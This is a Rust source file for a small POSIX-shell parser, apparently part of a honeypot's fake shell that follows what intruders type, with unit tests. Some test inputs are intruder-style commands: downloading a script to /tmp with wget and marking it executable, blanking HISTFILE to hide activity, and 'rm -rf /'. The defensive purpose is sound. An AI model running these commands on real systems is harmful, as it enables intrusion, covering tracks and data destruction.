//! A small POSIX-shell parser for the fake shell: lists (`;`, `&&`, `||`, `&`), pipelines,
//! quoting, `$VAR`, `$(...)` and backticks, redirections and comments. Enough to follow what
//! intruders type; compound commands (`for`, `if`, ...) are recognised, not run.

/// One piece of a word, before expansion.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Part {
    /// Literal text; `quoted` text is not split into fields.
    Text { text: String, quoted: bool },
    /// `$NAME`, `${NAME}`, `$?`, `$$`.
    Var { name: String, quoted: bool },
    /// `$(...)` or backticks: the inner command line.
    Command { line: String, quoted: bool },
    /// A leading unquoted `~` (the home directory).
    Home,
}

#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Word {
    pub parts: Vec<Part>,
}

#[cfg(test)]
impl Word {
    fn literal(text: &str) -> Word {
        Word { parts: vec![Part::Text { text: text.to_owned(), quoted: false }] }
    }

    /// The word's literal text if it has no expansions.
    fn as_literal(&self) -> Option<String> {
        let mut out = String::new();
        for part in &self.parts {
            match part {
                Part::Text { text, .. } => out.push_str(text),
                _ => return None,
            }
        }
        Some(out)
    }
}

impl Word {
    /// Whether the word starts with unquoted text (`NAME=` of an assignment must).
    fn starts_unquoted(&self) -> bool {
        matches!(self.parts.first(), Some(Part::Text { quoted: false, .. }))
    }
}

/// Where a redirection sends a file descriptor.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Redirect {
    /// `fd> word`, `fd>> word` (`append`), `&> word` (fd `None`: both outputs).
    Output { fd: Option<u32>, target: Word, append: bool },
    /// `< file`, or a here-string `<<< word` (`here`), which is the input itself. Here
    /// documents (`<< END`) span lines the shell never sees, so they read as empty.
    Input { target: Word, here: Here },
    /// `fd>&to`.
    Duplicate { fd: u32, to: u32 },
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Here {
    /// `< file`.
    File,
    /// `<< END`.
    Document,
    /// `<<< word`.
    String,
}

/// A command and its arguments, with the assignments before it and its redirections.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Simple {
    pub assignments: Vec<(String, Word)>,
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
}

/// How a pipeline joins the previous one.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Join {
    /// First pipeline, `;`, `&` or a newline: always run.
    Always,
    /// `&&`: run if the previous succeeded.
    And,
    /// `||`: run if the previous failed.
    Or,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Pipeline {
    pub join: Join,
    pub commands: Vec<Simple>,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ParseError {
    /// A quote, `$(` or backtick is not closed.
    Unterminated(char),
    /// An operator where a command should be.
    UnexpectedToken(String),
    /// The line ends after `|`, `&&` or `||`.
    UnexpectedEnd,
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Token {
    Word(Word),
    /// `;`, `&`, `&&`, `||`, `|`, `\n`.
    Operator(&'static str),
    /// A redirection that needs a word after it.
    Redirect(RedirectOp),
    /// `fd>&to`.
    Duplicate {
        fd: u32,
        to: u32,
    },
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum RedirectOp {
    Output { fd: Option<u32>, append: bool },
    Input(Here),
}

/// Words that start compound commands, which the fake shell does not run.
pub const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac", "function",
    "{", "}", "[[", "]]",
];

/// Parses one command line.
pub fn parse(line: &str) -> Result<Vec<Pipeline>, ParseError> {
    let tokens = Lexer { chars: line.chars().collect(), pos: 0 }.tokens()?;
    let mut pipelines = Vec::new();
    let mut join = Join::Always;
    let mut commands: Vec<Simple> = Vec::new();
    let mut current = Simple::default();
    let mut tokens = tokens.into_iter().peekable();
    while let Some(token) = tokens.next() {
        match token {
            Token::Word(word) => {
                if current.words.is_empty()
                    && word.starts_unquoted()
                    && let Some((name, value)) = split_assignment(&word)
                {
                    current.assignments.push((name, value));
                } else {
                    current.words.push(word);
                }
            }
            Token::Duplicate { fd, to } => current.redirects.push(Redirect::Duplicate { fd, to }),
            Token::Redirect(op) => {
                let Some(Token::Word(target)) = tokens.next() else {
                    return Err(ParseError::UnexpectedEnd);
                };
                current.redirects.push(match op {
                    RedirectOp::Output { fd, append } => Redirect::Output { fd, target, append },
                    RedirectOp::Input(here) => Redirect::Input { target, here },
                });
            }
            Token::Operator(op) => {
                let empty = current.words.is_empty()
                    && current.assignments.is_empty()
                    && current.redirects.is_empty();
                if empty {
                    // `;` alone, or a newline, after a complete list is harmless.
                    if commands.is_empty() && matches!(op, ";" | "\n" | "&") && !pipelines.is_empty() {
                        continue;
                    }
                    return Err(ParseError::UnexpectedToken(op.to_owned()));
                }
                commands.push(std::mem::take(&mut current));
                if op == "|" {
                    continue;
                }
                pipelines.push(Pipeline { join, commands: std::mem::take(&mut commands) });
                join = match op {
                    "&&" => Join::And,
                    "||" => Join::Or,
                    _ => Join::Always,
                };
            }
        }
    }
    let empty = current.words.is_empty() && current.assignments.is_empty() && current.redirects.is_empty();
    if empty {
        if !commands.is_empty() || join != Join::Always {
            return Err(ParseError::UnexpectedEnd);
        }
    } else {
        commands.push(current);
        pipelines.push(Pipeline { join, commands });
    }
    Ok(pipelines)
}

/// `NAME=value` → (`NAME`, value word).
fn split_assignment(word: &Word) -> Option<(String, Word)> {
    let Some(Part::Text { text, quoted: false }) = word.parts.first() else { return None };
    let (name, rest) = text.split_once('=')?;
    if !is_name(name) {
        return None;
    }
    let mut value = Word::default();
    if !rest.is_empty() {
        value.parts.push(Part::Text { text: rest.to_owned(), quoted: false });
    }
    value.parts.extend(word.parts[1..].iter().cloned());
    Some((name.to_owned(), value))
}

/// A shell variable name.
pub fn is_name(name: &str) -> bool {
    let mut chars = name.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

struct Lexer {
    chars: Vec<char>,
    pos: usize,
}

impl Lexer {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }

    fn peek_at(&self, offset: usize) -> Option<char> {
        self.chars.get(self.pos + offset).copied()
    }

    fn tokens(mut self) -> Result<Vec<Token>, ParseError> {
        let mut tokens = Vec::new();
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\r' => self.pos += 1,
                '#' => break,
                '\n' | ';' => {
                    self.pos += 1;
                    tokens.push(Token::Operator(if c == '\n' { "\n" } else { ";" }));
                }
                '|' | '&' => tokens.push(self.operator()),
                '<' | '>' => tokens.push(self.redirect(None)),
                c if c.is_ascii_digit() && self.is_fd_redirect() => {
                    let fd = c.to_digit(10).unwrap_or_default();
                    self.pos += 1;
                    tokens.push(self.redirect(Some(fd)));
                }
                _ => tokens.push(Token::Word(self.word()?)),
            }
        }
        Ok(tokens)
    }

    /// A single digit directly followed by `<` or `>`.
    fn is_fd_redirect(&self) -> bool {
        matches!(self.peek_at(1), Some('<' | '>'))
    }

    fn operator(&mut self) -> Token {
        let c = self.chars[self.pos];
        let doubled = self.peek_at(1) == Some(c);
        if c == '&' && self.peek_at(1) == Some('>') {
            self.pos += 2;
            let append = self.peek() == Some('>');
            if append {
                self.pos += 1;
            }
            return Token::Redirect(RedirectOp::Output { fd: None, append });
        }
        self.pos += if doubled { 2 } else { 1 };
        Token::Operator(match (c, doubled) {
            ('|', true) => "||",
            ('|', false) => "|",
            ('&', true) => "&&",
            _ => "&",
        })
    }

    /// At `<` or `>` (after an optional fd digit).
    fn redirect(&mut self, fd: Option<u32>) -> Token {
        let c = self.chars[self.pos];
        self.pos += 1;
        if c == '<' {
            let mut angles = 1;
            while self.peek() == Some('<') {
                angles += 1;
                self.pos += 1;
            }
            if angles == 2 && self.peek() == Some('-') {
                self.pos += 1;
            }
            return Token::Redirect(RedirectOp::Input(match angles {
                1 => Here::File,
                2 => Here::Document,
                _ => Here::String,
            }));
        }
        let append = self.peek() == Some('>');
        if append {
            self.pos += 1;
        }
        if self.peek() == Some('&') && self.peek_at(1).is_some_and(|d| d.is_ascii_digit()) {
            let to = self.peek_at(1).and_then(|d| d.to_digit(10)).unwrap_or(1);
            self.pos += 2;
            return Token::Duplicate { fd: fd.unwrap_or(1), to };
        }
        Token::Redirect(RedirectOp::Output { fd: Some(fd.unwrap_or(1)), append })
    }

    fn word(&mut self) -> Result<Word, ParseError> {
        let mut word = Word::default();
        let mut text = String::new();
        if self.peek() == Some('~')
            && matches!(self.peek_at(1), None | Some('/' | ' ' | '\t' | ';' | '|' | '&'))
        {
            self.pos += 1;
            word.parts.push(Part::Home);
        }
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\r' | '\n' | ';' | '|' | '&' | '<' | '>' => break,
                '\\' => {
                    self.pos += 1;
                    if let Some(next) = self.peek() {
                        self.pos += 1;
                        if next != '\n' {
                            text.push(next);
                        }
                    }
                }
                '\'' => {
                    self.pos += 1;
                    let start = self.pos;
                    let end = self.find('\'').ok_or(ParseError::Unterminated('\''))?;
                    flush(&mut word, &mut text, false);
                    let quoted: String = self.chars[start..end].iter().collect();
                    word.parts.push(Part::Text { text: quoted, quoted: true });
                    self.pos = end + 1;
                }
                '"' => {
                    self.pos += 1;
                    flush(&mut word, &mut text, false);
                    self.double_quoted(&mut word)?;
                }
                '$' | '`' => {
                    flush(&mut word, &mut text, false);
                    self.expansion(&mut word, false)?;
                }
                c => {
                    self.pos += 1;
                    text.push(c);
                }
            }
        }
        flush(&mut word, &mut text, false);
        Ok(word)
    }

    /// After an opening `"`, up to and including the closing one.
    fn double_quoted(&mut self, word: &mut Word) -> Result<(), ParseError> {
        let mut text = String::new();
        // `""` is an empty argument, not nothing.
        word.parts.push(Part::Text { text: String::new(), quoted: true });
        loop {
            match self.peek() {
                None => return Err(ParseError::Unterminated('"')),
                Some('"') => {
                    self.pos += 1;
                    flush(word, &mut text, true);
                    return Ok(());
                }
                Some('\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(c @ ('$' | '`' | '"' | '\\')) => {
                            self.pos += 1;
                            text.push(c);
                        }
                        Some('\n') => self.pos += 1,
                        _ => text.push('\\'),
                    }
                }
                Some('$' | '`') => {
                    flush(word, &mut text, true);
                    self.expansion(word, true)?;
                }
                Some(c) => {
                    self.pos += 1;
                    text.push(c);
                }
            }
        }
    }

    /// At `$` or a backtick.
    fn expansion(&mut self, word: &mut Word, quoted: bool) -> Result<(), ParseError> {
        if self.peek() == Some('`') {
            self.pos += 1;
            let start = self.pos;
            let end = self.find('`').ok_or(ParseError::Unterminated('`'))?;
            let line: String = self.chars[start..end].iter().collect();
            self.pos = end + 1;
            word.parts.push(Part::Command { line, quoted });
            return Ok(());
        }
        self.pos += 1; // `$`
        match self.peek() {
            Some('(') => {
                let arithmetic = self.peek_at(1) == Some('(');
                let start = self.pos + 1;
                let end = self.matching_paren(self.pos).ok_or(ParseError::Unterminated('('))?;
                let line: String = self.chars[start..end].iter().collect();
                self.pos = end + 1;
                if arithmetic {
                    // `$((...))` is arithmetic, which the shell does not evaluate.
                    word.parts.push(Part::Text { text: "0".into(), quoted });
                } else {
                    word.parts.push(Part::Command { line, quoted });
                }
            }
            Some('{') => {
                let start = self.pos + 1;
                let end = self.find_from(start, '}').ok_or(ParseError::Unterminated('{'))?;
                let inner: String = self.chars[start..end].iter().collect();
                self.pos = end + 1;
                // `${NAME}`, `${NAME:-default}` and friends: the name is what matters here.
                let name: String =
                    inner.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
                word.parts.push(Part::Var { name, quoted });
            }
            Some(c) if matches!(c, '?' | '$' | '#' | '!' | '@' | '*' | '-') || c.is_ascii_digit() => {
                self.pos += 1;
                word.parts.push(Part::Var { name: c.to_string(), quoted });
            }
            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                let start = self.pos;
                while self.peek().is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                    self.pos += 1;
                }
                let name: String = self.chars[start..self.pos].iter().collect();
                word.parts.push(Part::Var { name, quoted });
            }
            _ => word.parts.push(Part::Text { text: "$".into(), quoted }),
        }
        Ok(())
    }

    fn find(&self, c: char) -> Option<usize> {
        self.find_from(self.pos, c)
    }

    fn find_from(&self, from: usize, c: char) -> Option<usize> {
        self.chars.get(from..)?.iter().position(|&x| x == c).map(|i| from + i)
    }

    /// The index of the `)` closing the `(` at `open`, skipping quoted text.
    fn matching_paren(&self, open: usize) -> Option<usize> {
        let mut depth = 0usize;
        let mut quote: Option<char> = None;
        for (i, &c) in self.chars.iter().enumerate().skip(open) {
            match (quote, c) {
                (Some(q), c) if c == q => quote = None,
                (Some(_), _) => {}
                (None, '\'' | '"') => quote = Some(c),
                (None, '(') => depth += 1,
                (None, ')') => {
                    depth -= 1;
                    if depth == 0 {
                        return Some(i);
                    }
                }
                _ => {}
            }
        }
        None
    }
}

fn flush(word: &mut Word, text: &mut String, quoted: bool) {
    if !text.is_empty() {
        word.parts.push(Part::Text { text: std::mem::take(text), quoted });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(t: &str) -> Part {
        Part::Text { text: t.into(), quoted: false }
    }

    fn words(simple: &Simple) -> Vec<String> {
        simple.words.iter().map(|w| w.as_literal().unwrap_or_else(|| format!("{w:?}"))).collect()
    }

    #[test]
    fn lists_and_pipelines() {
        let p = parse("cd /tmp && wget http://x/a.sh; chmod +x a.sh || echo no | wc -l &").unwrap();
        assert_eq!(p.len(), 4);
        assert_eq!(
            p.iter().map(|p| p.join).collect::<Vec<_>>(),
            [Join::Always, Join::And, Join::Always, Join::Or]
        );
        assert_eq!(words(&p[1].commands[0]), ["wget", "http://x/a.sh"]);
        assert_eq!(p[3].commands.len(), 2);
        assert_eq!(words(&p[3].commands[1]), ["wc", "-l"]);
    }

    #[test]
    fn quotes_and_escapes() {
        let p = parse(r#"echo 'a  b' "c $HOME" d\ e "" x"y"z"#).unwrap();
        let c = &p[0].commands[0];
        assert_eq!(c.words.len(), 6);
        assert_eq!(c.words[1].parts, [Part::Text { text: "a  b".into(), quoted: true }]);
        assert_eq!(
            c.words[2].parts,
            [
                Part::Text { text: String::new(), quoted: true },
                Part::Text { text: "c ".into(), quoted: true },
                Part::Var { name: "HOME".into(), quoted: true }
            ]
        );
        assert_eq!(c.words[3].as_literal().unwrap(), "d e");
        assert_eq!(c.words[4].as_literal().unwrap(), "");
        assert_eq!(c.words[5].as_literal().unwrap(), "xyz");
    }

    #[test]
    fn expansions() {
        let p = parse("ls -lh $(which ls) `id -u` ${USER}x $? ~/a ~root $((1+2))").unwrap();
        let w = &p[0].commands[0].words;
        assert_eq!(w[2].parts, [Part::Command { line: "which ls".into(), quoted: false }]);
        assert_eq!(w[3].parts, [Part::Command { line: "id -u".into(), quoted: false }]);
        assert_eq!(w[4].parts, [Part::Var { name: "USER".into(), quoted: false }, text("x")]);
        assert_eq!(w[5].parts, [Part::Var { name: "?".into(), quoted: false }]);
        assert_eq!(w[6].parts, [Part::Home, text("/a")]);
        assert_eq!(w[7].parts, [text("~root")]);
        assert_eq!(w[8].parts, [text("0")]);
    }

    #[test]
    fn redirections() {
        let p = parse("cat a >/dev/null 2>&1; echo x >> f 2> e < in; ls &> all").unwrap();
        assert_eq!(
            p[0].commands[0].redirects,
            [
                Redirect::Output { fd: Some(1), target: Word::literal("/dev/null"), append: false },
                Redirect::Duplicate { fd: 2, to: 1 }
            ]
        );
        assert_eq!(
            p[1].commands[0].redirects,
            [
                Redirect::Output { fd: Some(1), target: Word::literal("f"), append: true },
                Redirect::Output { fd: Some(2), target: Word::literal("e"), append: false },
                Redirect::Input { target: Word::literal("in"), here: Here::File },
            ]
        );
        assert_eq!(
            p[2].commands[0].redirects,
            [Redirect::Output { fd: None, target: Word::literal("all"), append: false }]
        );
        assert_eq!(words(&p[1].commands[0]), ["echo", "x"]);
        let p = parse("base64 -d <<< aWQ= ; cat <<-END").unwrap();
        assert_eq!(
            p[0].commands[0].redirects,
            [Redirect::Input { target: Word::literal("aWQ="), here: Here::String }]
        );
        assert_eq!(
            p[1].commands[0].redirects,
            [Redirect::Input { target: Word::literal("END"), here: Here::Document }]
        );
    }

    #[test]
    fn assignments_and_comments() {
        let p = parse("HISTFILE=/dev/null A=\"b c\" env # ignored; rm -rf /").unwrap();
        let c = &p[0].commands[0];
        assert_eq!(c.assignments.len(), 2);
        assert_eq!(c.assignments[0].0, "HISTFILE");
        assert_eq!(c.assignments[0].1.as_literal().unwrap(), "/dev/null");
        assert_eq!(words(c), ["env"]);
        assert_eq!(p.len(), 1);
        assert!(parse("   # only a comment").unwrap().is_empty());
        assert!(parse("").unwrap().is_empty());
    }

    #[test]
    fn errors() {
        assert_eq!(parse("echo 'open"), Err(ParseError::Unterminated('\'')));
        assert_eq!(parse("echo \"open"), Err(ParseError::Unterminated('"')));
        assert_eq!(parse("echo $(id"), Err(ParseError::Unterminated('(')));
        assert_eq!(parse("; ls"), Err(ParseError::UnexpectedToken(";".into())));
        assert_eq!(parse("ls | | wc"), Err(ParseError::UnexpectedToken("|".into())));
        assert_eq!(parse("ls |"), Err(ParseError::UnexpectedEnd));
        assert_eq!(parse("ls &&"), Err(ParseError::UnexpectedEnd));
        assert_eq!(parse("echo >"), Err(ParseError::UnexpectedEnd));
        assert!(parse("ls;").is_ok());
        assert!(parse("ls & ").is_ok());
    }

    #[test]
    fn hostile_input_terminates() {
        let deep = "$(".repeat(2000);
        assert!(parse(&deep).is_err());
        let many = "a|".repeat(2000) + "b";
        assert_eq!(parse(&many).unwrap()[0].commands.len(), 2001);
        assert!(parse("\u{0}\u{7f}\u{1b}[A").is_ok());
    }
}
